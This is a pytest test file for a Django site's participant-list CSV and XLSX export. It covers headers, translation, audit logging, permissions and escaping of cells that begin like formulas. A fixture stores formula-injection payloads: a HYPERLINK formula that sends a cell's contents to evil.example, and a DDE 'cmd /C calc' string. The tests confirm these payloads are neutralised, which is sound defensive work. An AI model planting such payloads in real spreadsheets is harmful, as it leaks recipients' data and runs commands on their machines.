"""The project's participant list as CSV and XLSX, with cells that cannot run as formulas."""

import datetime

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import translation

from audit.models import AuditEvent
from certificates.models import Certificate
from certificates.snapshot import build_snapshot
from dashboard.importing import check_file
from participants.models import Participant, ParticipantRole
from tests.conftest import login, make_project
from tests.dashboard.spreadsheets import csv_table, xlsx_sheet
from youthpass_site.lib.spreadsheets import escape_formula, read_table

HEADERS = [
    "First name",
    "Last name",
    "E-mail address",
    "Date of birth",
    "Place of birth",
    "Country of residence",
    "Role",
    "Language",
    "Start date",
    "End date",
    "State",
    "Submitted",
    "Approved",
    "Certificate IDs",
]
ATTACKS = {
    "first_name": '=HYPERLINK("https://evil.example/?"&C2,"Click")',
    "last_name": "+SUM(1,2)",
    "place_of_birth": "-2+3+cmd|' /C calc'!A0",
    "dialogue_partner": "not exported",
}


def export_url(project, kind):
    return reverse(f"dashboard:export_{kind}", args=[project.code])


def download(client, world, kind, user=None):
    login(client, user or world.editor)
    response = client.get(export_url(world.project, kind))
    assert response.status_code == 200
    return response


def issue(participant, by):
    """A valid certificate for the participant, with a stand-in PDF."""
    participant.submit()
    participant.approve(by)
    certificate = Certificate(
        participant=participant,
        language="lv",
        snapshot=build_snapshot(participant, "lv", by=by),
        issued_by=by,
    )
    certificate.pdf.save(certificate.filename, ContentFile(b"%PDF-1.7 test"), save=False)
    certificate.save()
    participant.mark_issued()
    return certificate


@pytest.fixture
def listed(world):
    """The world's participant with a certificate, and one with dangerous text in her name."""
    participant = world.participant
    participant.country, participant.role = "LV", ParticipantRole.GROUP_LEADER
    participant.save()
    certificate = issue(participant, world.admin)
    attacker = Participant.objects.create(
        project=world.project,
        email="@attacker@example.org",
        start_date=datetime.date(2026, 7, 2),
        **ATTACKS,
    )
    return certificate, attacker


def test_csv_lists_every_participant_with_state_and_certificate(client, world, listed):
    certificate, _attacker = listed
    response = download(client, world, "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="participants-voices-of-the-baltic.csv"' in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    table = csv_table(response.content)
    assert table[0] == HEADERS
    rows = {row[2]: dict(zip(HEADERS, row, strict=True)) for row in table[1:]}
    assert len(rows) == 3
    liga = rows["participant@example.org"]
    assert liga["First name"] == "Līga"
    assert liga["Date of birth"] == "2004-05-17"
    assert liga["Country of residence"] == "Latvia"
    assert liga["Role"] == "Group leader"
    assert liga["Language"] == "English"
    assert liga["State"] == "Certificate issued"
    assert liga["Submitted"].startswith(certificate.issued_at.strftime("%Y-%m-%d"))
    assert liga["Certificate IDs"] == f"{certificate.certificate_id} (lv)"
    assert rows["other.participant@example.org"]["Certificate IDs"] == ""


def test_csv_cells_cannot_run_as_formulas(client, world, listed):
    table = csv_table(download(client, world, "csv").content)
    row = next(row for row in table if row[2] == "'@attacker@example.org")

    assert row[0] == "'" + ATTACKS["first_name"]
    assert row[1] == "'+SUM(1,2)"
    assert row[4] == "'-2+3+cmd|' /C calc'!A0"
    assert row[8] == "2026-07-02"
    assert "not exported" not in str(table)
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in table for cell in line)


def test_xlsx_cells_are_text_not_formulas(client, world, listed):
    certificate, _attacker = listed
    response = download(client, world, "xlsx")

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = xlsx_sheet(response.content)
    assert [cell.value for cell in sheet[1]] == HEADERS
    rows = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
    attacker = rows["'@attacker@example.org"]
    assert attacker[0].value == "'" + ATTACKS["first_name"]
    assert attacker[1].value == "'+SUM(1,2)"
    assert attacker[4].value == "'-2+3+cmd|' /C calc'!A0"
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert attacker[8].value == datetime.datetime(2026, 7, 2)
    assert attacker[8].is_date
    liga = rows["participant@example.org"]
    assert liga[3].value == datetime.datetime(2004, 5, 17)
    assert liga[13].value == f"{certificate.certificate_id} (lv)"
    assert isinstance(liga[11].value, datetime.datetime)


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=", "-"],
)
def test_escape_formula(value):
    assert escape_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Līga", "a=b", " =1", "1-2", "", 5, -5, None])
def test_plain_values_stay(value):
    assert escape_formula(value) == value


def test_an_export_imports_into_another_project(client, world, listed):
    other = make_project(world.organisation, title="The next exchange")
    content = download(client, world, "xlsx").content

    checked = check_file(other, content)

    rows = {row["data"]["email"]: row for row in checked.rows}
    assert rows["participant@example.org"]["problems"] == []
    assert rows["participant@example.org"]["data"]["role"] == "group_leader"
    assert rows["participant@example.org"]["data"]["country"] == "LV"
    # The escaped text is not taken for an address.
    assert [p["code"] for p in rows["'@attacker@example.org"]["problems"]] == ["email_invalid"]
    assert "State" in checked.warnings[0]["params"]["columns"]


def test_the_export_in_latvian(client, world, listed):
    client.cookies["django_language"] = "lv"
    table = csv_table(download(client, world, "csv").content)
    with translation.override("lv"):
        expected = str(Participant._meta.get_field("first_name").verbose_name)
        latvia = "Latvija"
    assert table[0][0].lower() == expected.lower()
    assert latvia in {row[5] for row in table}


def test_every_export_is_in_the_audit_log(client, world):
    download(client, world, "csv")
    download(client, world, "xlsx", user=world.admin)
    events = AuditEvent.objects.filter(action=AuditEvent.Action.DATA_EXPORTED)
    assert sorted(event.actor.email for event in events) == [
        "admin@example.org",
        "editor@example.org",
    ]
    assert {(event.organisation, event.target) for event in events} == {
        (world.organisation, world.project.code)
    }


@pytest.mark.parametrize(("who", "status"), [("participant_user", 403), ("outsider", 404)])
def test_others_cannot_export(client, world, who, status):
    login(client, getattr(world, who))
    for kind in ("csv", "xlsx"):
        assert client.get(export_url(world.project, kind)).status_code == status
    assert not AuditEvent.objects.exists()


def test_anonymous_is_sent_to_login(client, world):
    response = client.get(export_url(world.project, "csv"))
    assert response.url.startswith(reverse("login"))


@pytest.mark.parametrize("count", [2, 50])
def test_a_fixed_number_of_queries(client, world, django_assert_num_queries, count):
    Participant.objects.bulk_create(
        Participant(project=world.project, first_name="P", last_name=str(n), email=f"{n}@x.org")
        for n in range(count - 2)
    )
    login(client, world.editor)
    # Session, user, project, membership, audit event, participants, certificates.
    with django_assert_num_queries(7):
        response = client.get(export_url(world.project, "xlsx"))
    assert len(read_table(response.content).rows) == count
